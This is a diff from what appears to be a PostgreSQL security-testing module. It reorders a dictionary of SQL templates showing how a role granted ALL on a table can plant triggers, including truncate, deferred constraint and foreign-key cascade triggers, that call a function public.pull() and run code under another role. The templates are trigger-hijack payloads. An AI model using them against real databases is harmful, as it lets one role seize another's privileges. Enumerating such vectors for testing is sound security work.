@@ -91,17 +91,17 @@ WITH_CODE: Final = {
 """What is a plain table, and runs code of the role that made it."""
 
 ON_TRUE_TABLE: Final = {
+    # what cascades into the attacker's table fires that one's triggers, deferred ones at COMMIT
+    "cascade": "CREATE TABLE public.mine (r {first_type} REFERENCES public.{t} ON DELETE CASCADE);"
+    "INSERT INTO public.mine SELECT {first} FROM public.{t};"
+    "CREATE CONSTRAINT TRIGGER pulled AFTER DELETE ON public.mine"
+    " INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.pull()",
     "trigger": "CREATE TRIGGER pulled BEFORE INSERT OR UPDATE OR DELETE ON public.{t}"
     " FOR EACH ROW EXECUTE FUNCTION public.pull()",
     "truncate-trigger": "CREATE TRIGGER pulled BEFORE TRUNCATE ON public.{t}"
     " EXECUTE FUNCTION public.pull()",
     "deferred-trigger": "CREATE CONSTRAINT TRIGGER pulled AFTER INSERT OR UPDATE OR DELETE"
     " ON public.{t} INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.pull()",
-    # what cascades into the attacker's table fires that one's triggers, deferred ones at COMMIT
-    "cascade": "CREATE TABLE public.mine (r {first_type} REFERENCES public.{t} ON DELETE CASCADE);"
-    "INSERT INTO public.mine SELECT {first} FROM public.{t};"
-    "CREATE CONSTRAINT TRIGGER pulled AFTER DELETE ON public.mine"
-    " INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.pull()",
 }
 """What a role can do that was granted ALL on the table, as many an application's role."""
 
